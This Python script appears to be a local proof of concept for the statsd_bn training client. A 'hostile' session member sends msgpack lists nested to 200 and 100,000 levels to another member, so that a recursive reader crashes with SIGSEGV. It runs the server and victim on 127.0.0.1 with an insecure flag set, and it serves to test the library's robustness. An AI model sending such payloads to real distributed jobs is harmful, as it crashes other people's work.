"""Joins as a member and sends deeply nested bytes to another one, in today's framing of states and in a former one.

Server and victim run in the same container; the program prints how the victim ended. A reader that makes a call in C
for each level ends by SIGSEGV, in the former framing at 200 levels (1 KB). Today's levels are lists of one item.
"""

import os
import struct
import subprocess
import sys

import msgpack

from client.session.channel_pool import ZmqChannelPool
from client.session.connection import Connection
from client.session.protocol.session import Member
from statsd_bn.errors import StatsdBNError

ENDPOINT = "tcp://127.0.0.1:5555"
FORMER_DEPTH = 200
DEPTH = 100_000

# msgpack's extension type of a list, in both framings.
LIST = 1

# An older version wrote a state as a structure and its arrays. Its reader crashes in the structure, before any array.
NO_ARRAYS = struct.pack("<I", 1) + b"\x90"

# Importing torch takes a busy machine a minute.
SECONDS = 120.0

VICTIM = """
import sys, types
import client
from statsd_bn.errors import StatsdBNError
with client.connect(sys.argv[1], job=sys.argv[2], rank=0, world_size=2, round_timeout=60.0, policy="elastic"):
    loop = types.SimpleNamespace(train_loader=None, val_loader=None, test_loader=None)
    try:
        print(client.DDPHandler(loop).mp_sync([1.0]))
    except StatsdBNError as error:
        print(type(error).__name__)
"""


def main() -> None:
    """Attacks, and prints how the victims ended."""
    os.environ["STATSD_BN_INSECURE"] = "1"  # for the server and the victim
    with subprocess.Popen([sys.executable, "-m", "server", "--bind", ENDPOINT]) as server:
        endings = {give("former", framed(former_structure()) + NO_ARRAYS), give("digits", framed(structure()))}
        server.terminate()
    print("; ".join(sorted(endings)))


def framed(structure: bytes) -> bytes:
    """Returns a structure with its length in front."""
    return struct.pack("<I", len(structure)) + structure


def former_structure() -> bytes:
    """Returns nested lists, each of which contains the next one."""
    packed: bytes = msgpack.packb([])
    for _ in range(FORMER_DEPTH):
        packed = msgpack.packb([msgpack.ExtType(LIST, packed)])
    return packed


def structure() -> bytes:
    """Returns nested lists, each of which announces that one item follows."""
    one: bytes = msgpack.packb(msgpack.ExtType(LIST, struct.pack("<I", 1)))
    return one * DEPTH + msgpack.packb(None)


def give(job: str, data: bytes) -> str:
    """Sends bytes to a victim, and returns how the victim ended."""
    command = [sys.executable, "-c", VICTIM, ENDPOINT, job]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as victim:
        try:
            with Connection(ZmqChannelPool(ENDPOINT), Member(job, "world", 0, 1, 2, SECONDS, "hostile", 1)) as hostile:
                hostile.all_gather("mp_sync()", data)
        except StatsdBNError as error:
            # Possible if the victim ends first.
            print(f"the attacker: {error}", file=sys.stderr)
        said, _ = victim.communicate(timeout=SECONDS)
        return f"exit code {victim.returncode}: {said.strip()}"


if __name__ == "__main__":
    main()
